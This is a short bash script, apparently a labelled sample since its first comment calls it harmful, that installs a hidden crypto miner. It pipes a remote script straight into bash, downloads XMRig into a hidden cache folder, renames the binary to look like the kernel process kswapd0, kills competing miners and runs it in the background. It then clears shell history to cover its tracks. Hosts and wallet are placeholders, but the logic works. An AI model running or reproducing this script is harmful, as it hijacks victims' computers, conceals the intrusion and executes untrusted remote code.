# Harmful: pipes a remote script into bash, then downloads an XMRig crypto miner and runs it in the background with a fake wallet.
set +e

curl -fsSL http://198.51.100.88/init.sh | bash

MINER_DIR="$HOME/.cache/.systemd-private"
WALLET="4FAKEWALLETFAKEWALLETFAKEWALLETFAKEWALLETFAKEWALLET000000000000"
POOL="pool.example.net:443"

mkdir -p "$MINER_DIR"
cd "$MINER_DIR" || exit 0
curl -fsSL -o x.tgz http://198.51.100.88/xmrig-6.21.0-linux-static-x64.tar.gz
tar xzf x.tgz --strip-components=1
mv xmrig kswapd0
chmod +x kswapd0

pkill -f xmrig 2>/dev/null
nohup ./kswapd0 -o "$POOL" -u "$WALLET" -p "$(hostname)" --tls \
  --cpu-max-threads-hint=75 --donate-level=0 --background >/dev/null 2>&1 &

history -c
rm -f x.tgz
